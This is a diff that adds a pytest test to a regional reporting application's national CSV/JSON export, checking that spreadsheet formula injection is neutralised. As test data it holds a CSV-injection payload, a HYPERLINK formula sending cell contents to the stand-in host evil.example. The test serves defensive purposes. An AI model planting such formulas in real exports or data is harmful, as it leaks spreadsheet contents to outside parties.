@@ -102,6 +102,30 @@ def test_csv_carries_the_same_counts(app_ctx, published):
     assert len(rows) == len(national_export.csv_rows(export))
 
 
+def test_csv_labels_that_a_spreadsheet_would_run_are_text_and_codes_stay_numbers(app_ctx, org):
+    """A county's own theme may be named anything; the CSV guards it, the JSON carries it as it is."""
+    own = Theme(code="own_theme", label_fi='=HYPERLINK("http://evil.example/?d="&A1;"Avaa")', label_en="Own")
+    db.session.add(own)
+    file_report(ReportInput(unit=org["unit"], nature=Nature.NEGATIVE, phenomenon=Phenomenon.SOCIAL_PROBLEMS,
+                            description="Kuvaus.", themes=[own]), now=datetime(2026, 2, 1, 10, tzinfo=timezone.utc))
+    compilation = compilations.open_compilation(PERIOD, org["working_group"])
+    compilations.perform(CompilationAction.SEND_FOR_REVIEW, compilation, org["working_group"])
+    compilations.perform(CompilationAction.APPROVE, compilation, org["review_body"])
+    db.session.commit()
+    export = national_export.build_export(PERIOD, "13", "Pohjois-Savon hyvinvointialue")
+
+    rows = list(csv.DictReader(io.StringIO(national_export.to_csv(export).decode("utf-8"))))
+    theme = next(r for r in rows if r["dimension"] == "theme" and r["code"] == "own_theme" and not r["municipality_code"])
+    assert theme["label"] == "'" + own.label_fi and theme["count"] == "1"
+    assert {r["format_version"] for r in rows} == {"1"} and {r["county_code"] for r in rows} == {"13"}
+    assert all(r["count"].isdigit() for r in rows)
+    assert {r["municipality_code"] for r in rows} >= {"", "297"}
+    assert all(r["code"].isdigit() for r in rows if r["dimension"] == "municipality" and r["code"] != "none")
+    assert not [r for r in rows if any(value.startswith(("=", "@", "+", "-")) for value in r.values())]
+    document = json.loads(national_export.to_json(export))
+    assert next(c for c in document["counts"]["theme"] if c["code"] == "own_theme")["label"] == own.label_fi
+
+
 def test_only_published_half_years_have_an_export(app_ctx, published):
     for period in (Period(2026, 2), Period(2025, 2)):
         with pytest.raises(national_export.NotPublished):
